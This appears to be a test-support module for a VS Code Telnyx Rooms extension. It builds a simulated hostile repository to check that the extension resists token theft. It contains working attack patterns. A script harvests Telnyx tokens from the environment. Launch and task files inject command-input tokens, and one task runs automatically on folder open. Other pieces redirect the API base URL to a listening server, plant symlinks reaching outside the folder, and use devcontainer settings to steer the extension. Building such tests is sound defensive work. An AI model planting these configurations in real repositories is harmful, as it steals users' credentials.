import { mkdir, readdir, readFile, symlink, writeFile } from 'node:fs/promises';
import { createServer } from 'node:net';
import { dirname, join } from 'node:path';
import { createTemporaryFolder } from '../../../scripts/hosts/temporaryFolder';
import { hostileSettings, steeringSettings } from '../../support/hostile/hostileSettings';
import { listen } from '../../support/network/listening';

/** A cloned repository that tries to get at tokens, with the server of whoever wrote it. */
export interface HostileRepository {
  /** The folder. */
  readonly path: string;
  /** A `.code-workspace` in it, of the folder itself. */
  readonly workspaceFile: string;
  /** What VS Code makes of its `devcontainer.json`: settings of the machine in the container. */
  readonly machineSettings: Readonly<Record<string, unknown>>;
  /** What its programs found: all of their environment that has to do with Telnyx. */
  stolen(): Promise<string>;
  /** What came to its writer's server, by connection. */
  readonly received: () => readonly string[];
  /** What stands beside the folder, where its links lead: names and contents. */
  outside(): Promise<Readonly<Record<string, string>>>;
  remove(): Promise<void>;
}

const program = `
const found = Object.entries(process.env).filter(entry => /telnyx|eyJ/i.test(entry.join()));
const text = JSON.stringify([process.argv.slice(2), found]) + '\\n';
require('node:fs').appendFileSync(__dirname + '/stolen.jsonl', text);
`;

/** Commands that an input of type `command` names, each with arguments of the repository's choice. */
const inputs = (url: string) => [
  { id: 'token', command: 'telnyxRooms.clientToken', args: { minValidSeconds: 0 } },
  { id: 'copy', command: 'telnyxRooms.copyAs.token', args: { roomKey: '0' } },
  { id: 'key', command: 'telnyxRooms.setApiKey', args: { baseUrl: `${url}/v2` } },
];

const commandEnv = {
  TELNYX_CLIENT_TOKEN: '${command:telnyxRooms.clientToken}',
  TELNYX_OTHER: '${input:token}',
};

const launch = (url: string) => ({
  version: '0.2.0',
  configurations: [
    {
      ...{ type: 'node', request: 'launch', name: 'Steal', env: commandEnv },
      program: '${workspaceFolder}/server.js',
    },
  ],
  inputs: inputs(url).map(input => ({ ...input, type: 'command' })),
});

const tasks = (url: string) => ({
  version: '2.0.0',
  tasks: [
    {
      ...{ label: 'Steal at once', type: 'process', command: process.execPath },
      args: ['server.js', '${input:token}'],
      runOptions: { runOn: 'folderOpen' },
      problemMatcher: [],
    },
    {
      ...{ label: 'Steal otherwise', type: 'process', command: process.execPath },
      args: ['server.js', '${input:copy}', '${input:key}'],
      problemMatcher: [],
    },
  ],
  inputs: inputs(url).map(input => ({ ...input, type: 'command' })),
});

/** Makes the repository, and lets its writer's server listen. */
export async function createHostileRepository(): Promise<HostileRepository> {
  const received: string[] = [];
  const server = await listen(
    createServer(socket => {
      const index = received.push('') - 1;
      socket.on('data', bytes => {
        received[index] = `${received[index] ?? ''}${bytes.toString()}`;
        socket.end();
      });
    }),
  );
  const url = `http://127.0.0.1:${server.port}`;
  const home = createTemporaryFolder('hostile');
  const [path, outside] = [join(home.path, 'cloned'), join(home.path, 'outside')];
  const write = async (name: string, content: unknown): Promise<void> => {
    await mkdir(dirname(join(path, name)), { recursive: true });
    const text = typeof content === 'string' ? content : JSON.stringify(content);
    await writeFile(join(path, name), text);
  };
  const settings = {
    ...hostileSettings(url),
    'terminal.integrated.defaultProfile.linux': 'Telnyx Room',
  };
  // A container has the proxy that its settings name, for VS Code itself too: that is VS Code's own.
  const machineSettings = { ...steeringSettings(url), 'telnyxRooms.defaultTtl': 2222 };
  await mkdir(outside);
  await writeFile(join(outside, '.env'), 'MINE=1\n');
  await write('server.js', program);
  await write('.vscode/settings.json', settings);
  await write('.vscode/launch.json', launch(url));
  await write('.vscode/tasks.json', tasks(url));
  await write('.devcontainer/devcontainer.json', {
    customizations: { vscode: { settings: machineSettings } },
  });
  await write('all.code-workspace', {
    folders: [{ path: '.' }],
    settings,
    launch: launch(url),
    tasks: tasks(url),
  });
  await symlink(join(outside, '.env'), join(path, '.env'));
  await symlink(outside, join(path, 'app'));
  return {
    path,
    workspaceFile: join(path, 'all.code-workspace'),
    machineSettings,
    stolen: () => readFile(join(path, 'stolen.jsonl'), 'utf8').catch(() => ''),
    received: () => received,
    async outside() {
      const names = await readdir(outside);
      const entries = names.map(async name => [name, await readFile(join(outside, name), 'utf8')]);
      return Object.fromEntries(await Promise.all(entries)) as Record<string, string>;
    },
    async remove() {
      await server.close();
      await home.remove();
    },
  };
}
